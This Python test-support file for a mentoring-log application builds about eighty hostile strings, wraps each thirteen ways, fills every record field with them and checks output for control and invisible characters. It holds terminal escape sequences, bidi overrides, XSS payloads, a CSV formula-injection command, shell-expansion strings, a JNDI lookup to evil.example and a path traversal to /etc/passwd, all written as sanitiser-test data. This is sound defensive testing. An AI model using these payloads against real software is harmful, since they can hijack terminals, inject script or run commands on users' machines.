"""A thousand hostile texts, and who judges what became of them on a terminal or a pipe."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterator

from factories import TODAY, make_goal, make_meeting, make_mentor, make_note, make_profile, make_review, make_task
from mentorlog.models.goal import Goal, HistoryEntry, Progress
from mentorlog.models.meeting import AgendaItem, Meeting
from mentorlog.models.mentor import Closure, Expectations, Fit, Mentor, StatusChange
from mentorlog.models.note import Note, Told
from mentorlog.models.profile import Assessment, Profile
from mentorlog.models.record import Conflict, Record
from mentorlog.models.review import GoalFact, MentorVerdict, Review, TaskVerdict, Verdict
from mentorlog.models.task import Defer, Round, Task

FRAGMENTS = {
    # what acts on a terminal
    "colours": "\x1b[5;41mX\x1b[0m",
    "256 colours": "\x1b[38;5;196mX",
    "clear": "\x1b[2J\x1b[H",
    "scroll away": "\x1b[3J\x1b[9999S",
    "write above": "\x1b[1A\x1b[2Kyou owe nothing",
    "other screen": "\x1b[?1049h",
    "ask back": "\x1b[6n\x1b[c\x1b[21t",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;b3duZWQ=\x07",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "device string": "\x1bP+q544e\x1b\\",
    "private messages": "\x1b^x\x1b\\\x1b_y\x1b\\\x1bXz\x1b\\",
    "reset": "\x1bc",
    "half a sequence": "X\x1b",
    "half a sequence more": "X\x1b[38;5",
    "C1 colours": "\x9b5;41mX",
    "C1 title": "\x9d0;owned\x9c",
    "C1 device": "\x90q\x9c",
    "bell": "\x07\x07",
    "backspace": "yes\x08\x08\x08no",
    "carriage": "all is paid\rnothing",
    "form feed": "a\x0bb\x0cc",
    "separators": "a\x1cb\x1db\x1ec\x1fd",
    "shift out": "\x0eqqq\x0f",
    "delete": "\x7f\x7f",
    "NUL": "a\x00b",
    "next line": "a\x85b",
    # what hides, joins or reorders
    "override": "abc\u202etxt.exe",
    "embedding": "\u202aX\u202bY\u202c",
    "isolates": "\u2066X\u2067Y\u2068Z\u2069",
    "marks": "\u200eX\u200fY\u061cZ",
    "zero width": "pass\u200bword",
    "joiners": "a\u200cb\u200dc\u2060d",
    "byte order mark": "\ufeffX",
    "soft hyphen": "pay\u00adpal",
    "invisible letters": "\u115f\u1160\u3164\uffa0",
    "tags": "X\U000e0041\U000e0042\U000e007f",
    "variation": "X\U000e0100",
    "annotation": "\ufff9a\ufffab\ufffb",
    "line separators": "a\u2028b\u2029c",
    "private use": "\ue000\U000f0000",
    "no characters": "\ufdd0\uffff\U0001fffe",
    "flood": "e" + "\u0301" * 40,
    # what acts in our own output
    "markup": "[bold red]X[/bold red]",
    "closing markup": "[/]",
    "wrong markup": "[/b]",
    "markup link": "[link=http://evil.example]X[/link]",
    "markup action": "[@click=app.quit]X[/]",
    "emoji name": ":smile: :pile_of_poo:",
    "format": "%s %n {0} {name} {}",
    "expansion": "$(touch pwned) `touch pwned` ; touch pwned # ${HOME}",
    "quotes": "'\"''\"\\",
    "completion": "a\tb:c\\d`e$f",
    # what acts elsewhere
    "formula": "=cmd|' /C calc'!A0",
    "more formulas": "@SUM(1+1)*cmd",
    "script": "<script>alert(1)</script>",
    "event": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "comment": "<!-- X",
    "end of a comment": "--> X ]]>",
    "style": "</style></textarea></title><b>",
    "entities": "&#27;[31m &lt;b&gt; &#x202e;",
    "markdown link": "[X](javascript:alert(1))",
    "picture": "![X](http://evil.example/x.png)",
    "autolink": "<javascript:alert(1)>",
    "reference": "[X]: http://evil.example 'y'",
    "heading": "# X",
    "underline": "X\n===",
    "fence": "```",
    "tilde": "~~~~",
    "rule": "---",
    "quote": "> X",
    "item": "- [ ] @me X due:fri",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "emphasis": "**X _Y *Z",
    "template": "{{7*7}} {% raw %} ${jndi:ldap://evil.example}",
    "front matter": "---\ntitle: X\n---",
    "path": "../../../etc/passwd",
    "TOML": 'X"\nstatus = "done"\n[[mentors]]\n"""',
    "long": "x" * 3000,
    "wide": "日本" * 400,
}

PLACES: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: f"Dr {text}",
    lambda text: f"{text} Osler",
    lambda text: text + text,
    lambda text: f"[{text}]",
    lambda text: f"({text})",
    lambda text: f'"{text}"',
    lambda text: f"`{text}`",
    lambda text: f"a{text}b",
    lambda text: f"é{text}日本",
    lambda text: f"**{text}**",
    lambda text: f"- {text}",
    lambda text: f"<{text}>",
]
"""Thirteen places for each of them: alone, beside words, within brackets, behind marks."""

LONG = {"long", "wide"}


def payloads() -> Iterator[str]:
    """Yield the texts, the alone ones first."""
    for place in PLACES:
        for name, fragment in FRAGMENTS.items():
            if name not in LONG or place is PLACES[0]:
                yield place(fragment)


def one_line(text: str) -> str:
    """Return the text as a title could hold it: what breaks a line is taken out."""
    return "".join(text.splitlines()) or "X"


# Records whose every text is hostile.


def records(text: str, number: int) -> list[Record | Profile]:
    """Return one record of each kind, its texts all this text; ids go by the number."""
    line, letters = one_line(text), _letters(number)
    conflicts = (
        Conflict(other={"purpose": f"{text} again"}),
        Conflict(at=f"{line}.", other={line: text}),
        Conflict(field="notes", both=(text, f"{text}\n\n{text}")),
    )
    common = {"tags": (line,), "links": (text,), "notes": f"{text}\n\n{text}", "conflicts": conflicts}
    mentor, goal, task, meeting = f"dr{letters}", f"g{letters}", f"t{letters}", f"m{letters}"
    return [
        _mentor(mentor, line, text, common),
        _goal(goal, mentor, line, text, common),
        _task(task, goal, mentor, meeting, line, text, common),
        _meeting(meeting, mentor, goal, line, text, common),
        _note(f"n{letters}", mentor, goal, text, common),
        _review(f"r{letters}", mentor, goal, task, text, common),
    ]


def profile(text: str) -> Profile:
    """Return a profile whose every text is this text."""
    line = one_line(text)
    rated = Assessment(on=TODAY, area=line, rating=3, comment=text)
    words = dict.fromkeys(("strengths", "growth_areas", "values", "needs"), (text,))
    return make_profile(name=line, program=text, institution=text, assessments=(rated,), **words)


def _letters(number: int) -> str:
    from mentorlog.ids import ALPHABET

    found = ""
    for _ in range(4):
        number, rest = divmod(number, len(ALPHABET))
        found = ALPHABET[rest] + found
    return found


def _mentor(id: str, line: str, text: str, common: dict) -> Mentor:
    return make_mentor(
        id=id, name=line, every=28, email=line, phone=line, department=text, institution=text, program=text,
        domains=(line,), met_via=text, qualities=text, conflict_of_interest=text, purpose=text,
        expectations=Expectations(mine=(text,), theirs=(text,), off_limits=(text,), not_looking_for=(text,)),
        status_log=(StatusChange(on=TODAY, status="active", reason=text),),
        fit=(Fit(on=TODAY, answer="good", comment=text),),
        closure=(Closure(on=TODAY, kind="moved", worked=text, did_not=text, lesson=text, handed_to=(line,)),), **common,
    )  # fmt: skip


def _goal(id: str, mentor: str, line: str, text: str, common: dict) -> Goal:
    return make_goal(
        id=id, title=line, why=text, measure=text, baseline=text, mentors=[mentor],
        progress=(Progress(on=TODAY, percent=4, text=text),),
        history=(HistoryEntry(on=TODAY, field=line, old=text, new=text, reason=text),), **common,
    )  # fmt: skip


def _task(id: str, goal: str, mentor: str, meeting: str, line: str, text: str, common: dict) -> Task:
    return make_task(
        id=id, title=line, instructions=text, deliverable=text, outcome=text, goal=goal, meeting=meeting, due=TODAY,
        assigned_by=mentor, helps=mentor, status="submitted",
        rounds=(Round(sent=TODAY, returned=TODAY, comment=text), Round(sent=TODAY)),
        defers=(Defer(on=TODAY, new=TODAY, reason=text),), **common,
    )  # fmt: skip


def _meeting(id: str, mentor: str, goal: str, line: str, text: str, common: dict) -> Meeting:
    items = (AgendaItem(text=line, goal=goal),)
    return make_meeting(id=id, mentors=(mentor,), agenda=items, decisions=(text,), feeling=text, **common)


def _note(id: str, mentor: str, goal: str, text: str, common: dict) -> Note:
    told = (Told(mentor=mentor, on=TODAY),)
    return make_note(id=id, kind="question", text=text, mentors=(mentor,), goal=goal, outcome=text, told=told, **common)


def _review(id: str, mentor: str, goal: str, task: str, text: str, common: dict) -> Review:
    from mentorlog.models.review import Facts

    return make_review(
        id=id, worked=text, did_not=text, changed=text, unlearned=text, facts=Facts(goals=(GoalFact(goal=goal),)),
        verdicts=(Verdict(goal=goal, verdict="keep", reason=text),), added_goals=(goal,),
        tasks=(TaskVerdict(task=task, verdict="keep", reason=text),),
        mentors=(MentorVerdict(mentor=mentor, fit="good", comment=text),), **common,
    )  # fmt: skip


# The oracle: it shares no table with the sanitiser.

_STYLE = re.compile(r"\x1b\[(?:0|1|2|3|4|9|22|3[1-6]|39)(?:;(?:1|2|3|4|9|3[1-6]))*m")
_NAME = re.compile("(?<=[\u4e00-\u9fff])[\U000e0100-\U000e01ef]")  # a variant of an ideograph, as in names
_EMPTY = "\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0"


def raw(text: str, *, terminal: bool = False) -> list[str]:
    """Return what in an output acts on a terminal or hides in a text; on a terminal our own few styles do not count."""
    rest = _STYLE.sub("", text) if terminal else text
    rest = _NAME.sub("", rest)
    return sorted({ascii(char) for char in set(rest) if char != "\n" and _acts(char)})


def _acts(char: str) -> bool:
    if char.isascii():
        return not char.isprintable()
    kind, code = unicodedata.category(char), ord(char)
    return (
        kind in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
        or char in _EMPTY
        or code & 0xFFFE == 0xFFFE
        or 0xFDD0 <= code <= 0xFDEF
        or 0xE0100 <= code <= 0xE01EF
    )
